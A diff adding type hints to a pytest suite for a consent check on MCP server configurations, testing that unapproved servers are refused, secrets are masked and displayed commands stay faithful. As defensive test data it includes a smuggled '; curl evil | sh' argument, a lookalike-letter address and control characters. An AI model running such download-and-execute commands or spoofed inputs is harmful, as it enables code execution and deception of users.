@@ -5,6 +5,8 @@ from __future__ import annotations
 import os
 import subprocess
 import sys
+from pathlib import Path
+from typing import Any
 
 import pytest
 from hypothesis import given
@@ -32,27 +34,27 @@ UDS = ServerConfig(name="x", transport="uds", socket="/run/x.sock")
 
 
 @pytest.fixture
-def states(home):
+def states(home: Path) -> ServerStates:
     return ServerStates(Home(home))
 
 
-def shown(server, state):
+def shown(server: ServerConfig, state: ServerState) -> list[str]:
     return describe_change(server, state).split("\n")
 
 
-def refusal(server, state):
+def refusal(server: ServerConfig, state: ServerState) -> SecurityError:
     with pytest.raises(SecurityError) as caught:
         check_consent(server, state)
     return caught.value
 
 
 @pytest.mark.parametrize("server", [STDIO, HTTP, OAUTH, UDS])
-def test_a_server_that_was_agreed_to_may_be_used(states, home, server):
+def test_a_server_that_was_agreed_to_may_be_used(states: ServerStates, home: Path, server: ServerConfig) -> None:
     grant(states, server)
     check_consent(server, ServerStates(Home(home)).get("x"))
 
 
-def test_a_server_that_nobody_agreed_to_is_refused_with_the_command_to_run():
+def test_a_server_that_nobody_agreed_to_is_refused_with_the_command_to_run() -> None:
     error = refusal(STDIO, ServerState())
     assert error.exit_code == 3
     assert error.message == "server `x` was never agreed to, so it is not used"
@@ -95,7 +97,9 @@ def test_a_server_that_nobody_agreed_to_is_refused_with_the_command_to_run():
     ],
     ids=lambda value: value if isinstance(value, str) and " " not in value else "",
 )
-def test_each_field_that_decides_asks_again_by_itself(states, before, change, field, line):
+def test_each_field_that_decides_asks_again_by_itself(
+    states: ServerStates, before: ServerConfig, change: dict[str, Any], field: str, line: str
+) -> None:
     grant(states, before)
     after = before._replace(**change)
     error = refusal(after, states.get("x"))
@@ -118,12 +122,14 @@ def test_each_field_that_decides_asks_again_by_itself(states, before, change, fi
         (STDIO, {"unknown": {"note": 1}}),
     ],
 )
-def test_secrets_limits_and_trust_may_change(states, server, change):
+def test_secrets_limits_and_trust_may_change(
+    states: ServerStates, server: ServerConfig, change: dict[str, Any]
+) -> None:
     grant(states, server)
     check_consent(server._replace(**change), states.get("x"))
 
 
-def test_a_secret_is_not_kept_and_its_change_is_noticed(states, home):
+def test_a_secret_is_not_kept_and_its_change_is_noticed(states: ServerStates, home: Path) -> None:
     server = STDIO._replace(args=("--api-key", "abcdef123456"), env={"T": "canary"})
     grant(states, server)
     kept = (home / "mcp-state.json").read_text()
@@ -134,7 +140,7 @@ def test_a_secret_is_not_kept_and_its_change_is_noticed(states, home):
     assert shown(after, states.get("x"))[-1] == "  args: --api-key '********' → --api-key evil-program"
 
 
-def test_a_new_definition_starts_from_nothing_and_the_same_one_keeps_what_was_learned(states):
+def test_a_new_definition_starts_from_nothing_and_the_same_one_keeps_what_was_learned(states: ServerStates) -> None:
     grant(states, STDIO)
     states.update("x", era="legacy", launch=("/node", "/x.js"), tools=3)
     grant(states, STDIO)
@@ -144,7 +150,9 @@ def test_a_new_definition_starts_from_nothing_and_the_same_one_keeps_what_was_le
     assert states.get("x") == ServerState(consent=after.fingerprint(), agreed=states.get("x").agreed)
 
 
-def test_a_person_sees_everything_that_decides(states, tmp_path, monkeypatch):
+def test_a_person_sees_everything_that_decides(
+    states: ServerStates, tmp_path: Any, monkeypatch: pytest.MonkeyPatch
+) -> None:
     monkeypatch.setenv("PATH", str(tmp_path))
     (tmp_path / "real").write_text("#!/bin/sh\n")
     (tmp_path / "real").chmod(0o755)
@@ -174,14 +182,14 @@ def test_a_person_sees_everything_that_decides(states, tmp_path, monkeypatch):
     assert shown(UDS, ServerState())[1:] == ["  socket: /run/x.sock"]
 
 
-def test_a_program_in_the_servers_folder_is_the_one_shown(tmp_path):
+def test_a_program_in_the_servers_folder_is_the_one_shown(tmp_path: Any) -> None:
     (tmp_path / "serve").write_text("#!/bin/sh\n")
     (tmp_path / "serve").chmod(0o755)
     server = ServerConfig(name="x", transport="stdio", command="./serve", cwd=str(tmp_path))
     assert shown(server, ServerState())[2] == f"  program: {tmp_path}/./serve, which is {tmp_path}/serve"
 
 
-def test_a_long_argument_is_shown_to_its_end():
+def test_a_long_argument_is_shown_to_its_end() -> None:
     tail = "; curl evil | sh"
     server = STDIO._replace(args=("x" * 4096 + tail,))
     assert tail in shown(server, ServerState())[1]
@@ -200,7 +208,7 @@ HOSTILE = [
 
 
 @pytest.mark.parametrize("text", HOSTILE)
-def test_hostile_text_stays_on_its_line_and_is_visible(text, states):
+def test_hostile_text_stays_on_its_line_and_is_visible(text: str, states: ServerStates) -> None:
     grant(states, STDIO)
     server = STDIO._replace(args=(text,), cwd=f"/{text}", env={text: "x"})
     lines = shown(server, states.get("x"))
@@ -209,12 +217,12 @@ def test_hostile_text_stays_on_its_line_and_is_visible(text, states):
     assert all(letter not in line for line in lines for letter in "\u202e\u200b\u3164\x1b\r\n")
 
 
-def test_a_line_break_and_its_name_look_different():
+def test_a_line_break_and_its_name_look_different() -> None:
     lines = [shown(STDIO._replace(args=(arg,)), ServerState())[1] for arg in ("a\nb", "a\\nb")]
     assert lines == ["  command: npx $'a\\nb'", "  command: npx 'a\\nb'"]
 
 
-def test_an_address_in_letters_that_look_alike_is_shown_for_what_it_is():
+def test_an_address_in_letters_that_look_alike_is_shown_for_what_it_is() -> None:
     server = HTTP._replace(url="https://\u0430pple.com/mcp")
     assert shown(server, ServerState())[1] == "  address: https://\\u0430pple.com/mcp"
 
@@ -223,14 +231,14 @@ _ARGS = st.lists(st.text(st.sampled_from("a '\\n$\n\x1b\u202e\u00e9"), max_size=
 
 
 @given(_ARGS, _ARGS)
-def test_no_two_command_lines_look_the_same(one, other):
+def test_no_two_command_lines_look_the_same(one: list[Any], other: list[Any]) -> None:
     first, second = (shown(STDIO._replace(args=tuple(args)), ServerState())[1] for args in (one, other))
     assert (first == second) == (one == other)
     assert first.isprintable()
 
 
 @pytest.mark.skipif(not os.path.exists("/bin/bash"), reason="needs bash")
-def test_what_is_shown_can_be_pasted(tmp_path):
+def test_what_is_shown_can_be_pasted(tmp_path: Any) -> None:
     args = (*HOSTILE, "plain", "", "a b", "'", '"', "$HOME")
     server = ServerConfig(
         name="x", transport="stdio", command=sys.executable, args=("-c", "import sys; print(sys.argv[1:])", *args)
